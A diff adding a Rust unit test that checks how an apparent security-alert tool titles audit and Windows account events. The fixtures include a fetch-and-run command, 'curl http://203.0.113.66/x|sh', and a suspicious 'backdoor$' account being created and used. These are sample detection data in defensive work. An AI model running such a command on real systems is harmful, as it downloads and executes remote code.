@@ -174,6 +174,34 @@ fn a_title_names_the_thing_or_the_account_where_nothing_else_tells_more() {
 }
 
 #[test]
+fn a_recorded_call_is_named_by_its_command_and_a_local_account_like_a_machine_by_its_name() {
+    let call = |execve: Value| {
+        let audit = json!({"exe": "/usr/bin/dash", "file": {"name": "/bin/sh"}, "execve": execve});
+        of("Command: /usr/bin/dash.", json!({"data": {"audit": audit}}))
+    };
+    let execve = json!({"a0": "sh", "a1": "-c", "a2": "curl http://203.0.113.66/x|sh"});
+    let account = |event: &str, fields: Value| {
+        let mut alert = of("Account", windows(fields));
+        alert["data"]["win"]["system"] = json!({"eventID": event, "computer": "WS1.corp.example"});
+        alert
+    };
+    let made = json!({"targetUserName": "backdoor$", "targetDomainName": "WS1", "subjectUserName": "bob", "subjectDomainName": "CORP"});
+    let used = json!({"targetUserName": "backdoor$", "targetDomainName": "WS1", "ipAddress": "203.0.113.9"});
+    assert_titles(&[
+        (
+            call(execve),
+            "Command: /usr/bin/dash. | web01 | sh -c curl http://203.0.113.66/x|sh",
+        ),
+        (call(Value::Null), "Command: /usr/bin/dash. | web01 | /bin/sh"),
+        (account("4720", made), r"Account | web01 | WS1\backdoor$"),
+        (
+            account("4624", used),
+            r"Account | web01 | WS1\backdoor$ from 203.0.113.9",
+        ),
+    ]);
+}
+
+#[test]
 fn a_task_is_shown_with_what_it_fetches_and_not_with_the_names_of_its_xml() {
     let content = |arguments: &str| {
         let namespace = r#"xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\""#;
